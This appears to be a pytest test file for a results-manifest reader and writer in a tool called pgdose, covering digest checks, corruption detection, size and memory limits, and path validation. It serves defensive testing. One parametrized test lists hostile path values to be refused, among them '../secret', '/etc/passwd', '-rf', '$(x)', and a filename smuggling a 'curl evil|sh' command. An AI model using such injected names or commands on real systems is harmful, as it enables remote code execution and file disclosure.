"""A manifest is read as it was written, or not at all."""

import hashlib
import random
import shutil
import subprocess
import tracemalloc
from pathlib import Path

import pytest
from helpers.results_folder import FILES, FOLDER, THUMBNAILS, finished

from pgdose.errors import UserError
from pgdose.manifest import comparison, document, files
from pgdose.manifest.document import Entry
from pgdose.manifest.files import MANIFEST


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return finished(tmp_path_factory.mktemp("results"))


def sealed(body: str) -> bytes:
    """A manifest that somebody made up, with the digest that it should have."""
    digest = hashlib.sha256(body.encode()).hexdigest()
    return f"{body}# sha256 of all lines above {digest}\n".encode()


def manifest(*paths: str, size: int = 5, target: str = "") -> bytes:
    head = "# pgdose manifest, format 1\n# written 2026-11-28T06:33:12Z by pgdose 1.0.0\n"
    head += f"# study phantom\n# {len(paths)} files, {size * len(paths)} bytes\n"
    target = f", target {target}" if target else ""
    return sealed(head + "".join(f"# {size} bytes{target}\n{'a' * 64}  {p}\n" for p in paths))


def read(folder: Path, content: bytes) -> document.Manifest:
    (folder / MANIFEST).write_bytes(content)
    return document.read(folder)


def test_it_lists_every_result_and_nothing_else(results: Path) -> None:
    entries = {entry.path: entry for entry in document.read(results).entries}
    assert set(entries) == {*FILES, *THUMBNAILS}
    for path, entry in entries.items():
        content = (results / path).read_bytes()
        assert (entry.size, entry.sha256) == (len(content), hashlib.sha256(content).hexdigest())
        assert entry.target == (FOLDER if path in THUMBNAILS else path)


@pytest.mark.skipif(not shutil.which("sha256sum"), reason="needs sha256sum")
def test_sha256sum_can_check_it(results: Path) -> None:
    command = ["sha256sum", "--check", "--strict", "--quiet", MANIFEST]
    run = subprocess.run(command, cwd=results, text=True, capture_output=True)
    assert (run.returncode, run.stdout, run.stderr) == (0, "", "")


def test_it_names_no_folder_user_or_machine(results: Path) -> None:
    head = (results / MANIFEST).read_text().split("bytes\n")[0]
    assert str(results.parent) not in (results / MANIFEST).read_text()
    assert [line.split()[1] for line in head.splitlines()] == ["pgdose", "written", "study", "20"]


@pytest.mark.parametrize("seed", range(5))
def test_no_flipped_bit_and_no_cut_goes_unseen(results: Path, tmp_path: Path, seed: int) -> None:
    content, rng = (results / MANIFEST).read_bytes(), random.Random(seed)
    for _ in range(200):
        place, bit = rng.randrange(len(content)), 1 << rng.randrange(8)
        changed = content[:place] + bytes([content[place] ^ bit]) + content[place + 1 :]
        with pytest.raises(UserError, match="damaged"):
            read(tmp_path, changed)
        with pytest.raises(UserError, match=r"damaged, .*`snakemake -R manifest`"):
            read(tmp_path, content[:place])
    with pytest.raises(UserError, match="damaged"):
        read(tmp_path, content + b"\n")
    with pytest.raises(UserError, match="damaged"):
        read(tmp_path, content.replace(b"\n", b"\r\n"))


def test_a_line_edited_by_hand_is_told(results: Path, tmp_path: Path) -> None:
    lines = (results / MANIFEST).read_text().splitlines(keepends=True)
    for edited in (lines[:-3] + lines[-1:], [*lines[:5], *lines[3:]], lines[::-1]):
        with pytest.raises(UserError, match="do not match the digest"):
            read(tmp_path, "".join(edited).encode())


@pytest.mark.parametrize(
    "path",
    [
        *("../secret", "/etc/passwd", "a/../../b", "a//b", "a/./b", "a/", "./a", ".hidden"),
        *(
            "a\\b",
            "a\x1b[31m",
            "a\u202eb",
            "groups/A/full/tensorboard/events.out.tfevents.1.machine.2",
            "logs/x.log",
            "manifest.sha256",
            "a/.snakemake_timestamp",
        ),
        *(  # what a shell, or a person who copies a command, would take for more than a name
            "tables/a`; curl evil|sh; `.csv",
            "tables/a b",
            "tables/$(x)",
            "-rf",
            "\u0661",
        ),
        *(
            "a" * 256,
            "/".join("a" * 33),
            "/".join(["a" * 200] * 21),
            "/".join("a" * 100_000),
        ),
    ],
)
def test_it_cannot_lead_out_of_the_results_or_to_what_is_none(tmp_path: Path, path: str) -> None:
    with pytest.raises(UserError, match="which is no file of a results folder"):
        read(tmp_path, manifest(path))
    with pytest.raises(UserError, match="cannot stand in a manifest"):
        document.write([Entry(path, 1, "a" * 64, path)], tmp_path / MANIFEST, "phantom")


@pytest.mark.parametrize("target", ["../x", "/", "b", "a/b/c", "a/b/cd/e"])
def test_a_target_is_the_file_or_a_folder_above_it(tmp_path: Path, target: str) -> None:
    assert read(tmp_path, manifest("a/b/cd", target="a/b")).entries[0].target == "a/b"
    with pytest.raises(UserError, match="which is no file"):
        read(tmp_path, manifest("a/b/cd", target=target))


def test_what_is_made_up_wrongly_is_refused(tmp_path: Path) -> None:
    assert len(read(tmp_path, manifest("a", "b")).entries) == 2
    for content, message in (
        (manifest(), "it lists no file"),
        (sealed(manifest("a").decode().rsplit("#", 1)[0].replace("1 files", "١ files")), "form of"),
        (
            sealed(manifest("a").decode().rsplit("#", 1)[0].replace("# 5 bytes", "# ٥ bytes")),
            "form of",
        ),
        (sealed(manifest("a").decode().rsplit("#", 1)[0].replace("phantom", "a b")), "form of"),
        (manifest("a", "a"), "lists 'a' twice"),
        (manifest("b", "a"), "out of order"),
        (sealed(""), "form of a manifest"),
        (sealed("# pgdose manifest, format 2\n"), "not of format 1"),
        (manifest("a").replace(b"# 1 files", b"# 2 files"), "do not match the digest"),
        (sealed(manifest("a").decode().rsplit("#", 1)[0].replace("1 files", "2 files")), "as many"),
        (sealed(manifest("a").decode().rsplit("#", 1)[0] + "more\n"), "form of a manifest"),
        (b"", "do not match the digest"),
        (b"\xff\xfe\n", "do not match the digest"),
    ):
        with pytest.raises(UserError, match=message):
            read(tmp_path, content)


def test_a_huge_one_is_refused_before_it_is_read(tmp_path: Path) -> None:
    with (tmp_path / MANIFEST).open("wb") as file:
        file.truncate(10 * 2**30)
    with pytest.raises(UserError, match="over 64 MB, so no manifest"):
        document.read(tmp_path)


def test_a_manifest_that_is_no_file_is_told(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        document.read(tmp_path)
    (tmp_path / MANIFEST).symlink_to("nowhere")
    with pytest.raises(UserError, match="a link that leads nowhere"):
        document.read(tmp_path)
    (tmp_path / MANIFEST).unlink()
    (tmp_path / MANIFEST).mkdir()
    with pytest.raises(UserError, match="a folder stands in its place"):
        document.read(tmp_path)


def test_it_says_of_which_study_it_is(results: Path) -> None:
    assert document.read(results).study == "phantom"
    assert document.read(results).title.startswith("manifest.sha256 of study phantom, written 20")


def test_a_message_repeats_no_more_than_the_beginning_of_a_path(tmp_path: Path) -> None:
    with pytest.raises(UserError) as caught:
        read(tmp_path, manifest("/".join("a" * 100_000)))
    assert len(str(caught.value)) < 1000


def test_a_manifest_that_would_not_be_read_back_is_not_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(document, "MOST_BYTES", 1000)
    entries = [Entry(f"a{i}", 1, "a" * 64, f"a{i}") for i in range(10)]
    with pytest.raises(UserError, match="manifest of 10 files is larger than"):
        document.write(entries, tmp_path / MANIFEST, "phantom")
    document.write(entries[:3], tmp_path / MANIFEST, "phantom")
    assert document.read(tmp_path).entries == tuple(entries[:3])


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="needs /proc")
def test_a_manifest_that_a_disk_cannot_give_is_a_line(tmp_path: Path) -> None:
    (tmp_path / MANIFEST).symlink_to("/proc/self/mem")
    with pytest.raises(UserError, match=r"cannot be read \(Input/output error\); restore it"):
        document.read(tmp_path)


@pytest.mark.skipif(not Path("/proc/self/pagemap").exists(), reason="needs /proc")
def test_a_file_that_has_no_size_and_no_end_is_not_read_to_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(document, "MOST_BYTES", 2**16)
    (tmp_path / MANIFEST).symlink_to("/proc/self/pagemap")
    tracemalloc.start()
    try:
        with pytest.raises(UserError, match="so no manifest"):
            document.read(tmp_path)
        assert tracemalloc.get_traced_memory()[1] < 2**20
    finally:
        tracemalloc.stop()
    assert files.sha256_of(Path("/proc/self/pagemap"))[0] <= 2**18


def test_many_files_take_little_memory(tmp_path: Path) -> None:
    """The paths of a manifest are held once, and so are their folders."""
    content = manifest(*(f"a{i:06}/b/c/d/e/f/g/h/i/j/k/l" for i in range(20_000)))
    (tmp_path / MANIFEST).write_bytes(content)
    tracemalloc.start()
    try:
        comparison.compare(tmp_path, document.read(tmp_path))
        assert tracemalloc.get_traced_memory()[1] < 40 * len(content)
    finally:
        tracemalloc.stop()
